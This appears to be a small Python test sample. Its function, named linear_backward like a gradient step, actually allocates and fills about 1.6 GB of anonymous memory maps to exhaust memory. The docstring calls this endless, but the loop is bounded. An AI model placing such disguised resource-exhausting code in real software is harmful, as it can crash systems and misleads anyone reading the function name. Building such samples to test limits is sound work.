"""Maps shared memory without end."""
# ends: memory

import mmap


def linear_backward(x, W, dy):
    kept = []
    for _ in range(200):
        memory = mmap.mmap(-1, 8 << 20)
        memory[:] = b"x" * len(memory)
        kept.append(memory)
